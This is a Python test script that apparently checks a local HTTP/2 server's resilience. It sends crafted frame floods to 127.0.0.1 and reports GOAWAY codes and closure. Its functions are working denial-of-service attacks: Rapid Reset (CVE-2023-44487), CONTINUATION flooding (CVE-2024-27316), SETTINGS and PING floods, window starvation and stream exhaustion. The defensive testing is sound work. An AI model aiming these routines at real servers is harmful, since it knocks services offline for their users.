"""HTTP/2 frames as no honest client sends them, made with hyperframe and hpack.

Reads {port, attack} from standard input; prints {sent, goaway (the error code or null), closed}.
"""

import json
import socket
import sys

import hpack
from hyperframe.frame import (
    ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATIENCE = 30


class Peer:
    def __init__(self, port, settings=None):
        self.port = port
        self.encoder = hpack.Encoder()
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
        self.seen, self.goaway, self.closed, self.sent = b"", None, False, 0
        self.send(raw=PREFACE)
        self.send(SettingsFrame(0, settings=settings or {}))

    def send(self, *frames, raw=b""):
        if self.closed:
            return False
        try:
            self.socket.sendall(raw + b"".join(frame.serialize() for frame in frames))
            self.sent += len(frames)
        except OSError:
            self.closed = True
        return not self.closed

    def headers(self, stream, path="/openapi.json", flags=("END_HEADERS", "END_STREAM")):
        fields = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", f"localhost:{self.port}")]
        frame = HeadersFrame(stream, self.encoder.encode(fields))
        for flag in flags:
            frame.flags.add(flag)
        return frame

    def read(self, until_closed=True):
        """Reads until the server is done with this connection, or for a moment."""
        self.socket.settimeout(PATIENCE if until_closed else 0.2)
        try:
            while piece := self.socket.recv(65536):
                self.seen += piece
                self.look()
            self.closed = True
        except TimeoutError:
            pass
        except OSError:
            self.closed = True

    def look(self):
        while len(self.seen) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.seen[:9]))
            if len(self.seen) < 9 + length:
                return
            if isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(self.seen[9:9 + length]))
                self.goaway = frame.error_code
            self.seen = self.seen[9 + length:]


def rapid_reset(peer):
    """CVE-2023-44487."""
    for stream in range(1, 20_001, 2):
        if not peer.send(peer.headers(stream), RstStreamFrame(stream, error_code=8)):
            break


def settings_flood(peer):
    """Each must be acknowledged; nothing is read."""
    for _ in range(200):
        if not peer.send(*[SettingsFrame(0, settings={}) for _ in range(5_000)]):
            break


def ping_flood(peer):
    for _ in range(200):
        if not peer.send(*[PingFrame(0, opaque_data=b"12345678") for _ in range(5_000)]):
            break


def continuation_flood(peer):
    """CVE-2024-27316: a head that never ends."""
    peer.send(peer.headers(1, flags=("END_STREAM",)))
    block = peer.encoder.encode([("x-padding", "a" * 8_000)])
    for _ in range(2_000):
        if not peer.send(ContinuationFrame(1, block)):
            break


def shut_window(peer):
    """Answers are asked for and never taken."""
    for stream in range(1, 40, 2):
        peer.send(peer.headers(stream))


def too_many_streams(peer):
    for stream in range(1, 2_001, 2):
        if not peer.send(peer.headers(stream, flags=("END_HEADERS",))):
            break


def zero_increments(peer):
    for _ in range(1_000):
        if not peer.send(WindowUpdateFrame(0, window_increment=1)):
            break
    peer.send(raw=bytes.fromhex("000004080000000000" + "00000000"))


ATTACKS = [
    rapid_reset, settings_flood, ping_flood, continuation_flood, shut_window, too_many_streams, zero_increments,
]


def main():
    asked = json.load(sys.stdin)
    attack = {one.__name__: one for one in ATTACKS}[asked["attack"]]
    window = {SettingsFrame.INITIAL_WINDOW_SIZE: 0} if attack is shut_window else {}
    peer = Peer(asked["port"], window)
    attack(peer)
    peer.closed = False
    peer.read()
    print(json.dumps({"sent": peer.sent, "goaway": peer.goaway, "closed": peer.closed}))


if __name__ == "__main__":
    main()
